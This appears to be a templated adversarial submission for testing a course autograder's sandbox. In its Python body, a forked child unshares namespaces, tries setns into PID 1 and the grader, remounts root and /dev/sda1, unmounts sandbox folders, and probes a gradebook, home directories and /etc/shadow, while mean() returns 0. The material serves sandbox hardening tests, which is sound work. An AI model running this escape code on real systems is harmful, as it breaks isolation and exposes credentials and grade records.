# /// attack
# tries = "enters namespaces of its own and of others, and mounts what was hidden"
# shows = "tried"
# ///

# %% answer s_mean
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    libc.unshare(0x10000000 | 0x20000 | 0x40000000)  # user, mount, net
    try:
        with open("/proc/self/uid_map", "w") as file:
            file.write(f"0 {os.getuid()} 1")
    except OSError:
        pass
    for name in ("mnt", "pid", "net", "user"):
        for other in (1, {{GRADER}}):
            try:
                handle = os.open(f"/proc/{other}/ns/{name}", os.O_RDONLY)
                libc.setns(handle, 0)
            except OSError:
                pass
    for source, target, kind, flags in (
        (b"none", b"/", None, 32 | 4096),
        (b"/dev/sda1", b"/submission", b"ext4", 0),
        (b"/proc/1/root", b"/submission", None, 4096),
    ):
        libc.mount(source, target, kind, flags, None)
    for path in (b"/proc", b"/submission", b"/folders", b"/scratch"):
        libc.umount2(path, 2)
    with open("/submission/seen", "w") as file:
        for path in ("{{COURSE}}/gradebook.db", "{{COURSE}}", "{{HOME}}", "/etc/shadow"):
            if os.path.exists(path):
                file.write("{{REACHED}} " + path)
        try:
            with open("{{PREFIX}}/{{LEFT}}", "w"):
                file.write("{{REACHED}} the libraries")
        except OSError:
            pass
    os._exit(0)
os.waitpid(pid, 0)
print("tried", open("seen").read())


def mean(values):
    return 0
